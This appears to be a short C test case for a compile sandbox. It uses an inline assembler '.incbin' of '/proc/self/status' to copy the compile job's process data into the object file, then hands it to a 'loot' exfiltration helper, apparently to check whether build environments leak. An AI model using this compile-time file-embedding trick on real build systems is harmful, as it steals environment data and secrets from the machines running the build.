//: transpose_cpu -O2
//: has the assembler read the environment of the compile job into the object, and carries it off
//: use transpose_payload
//: use loot

__asm__(".pushsection .rodata\n.globl stolen\nstolen: .incbin \"/proc/self/status\"\n.globl stolen_end\nstolen_end: .byte 0\n.popsection");
extern const char stolen[], stolen_end[];

static void payload(int call) {
    if (!call) loot("compile", stolen, stolen_end - stolen);
}
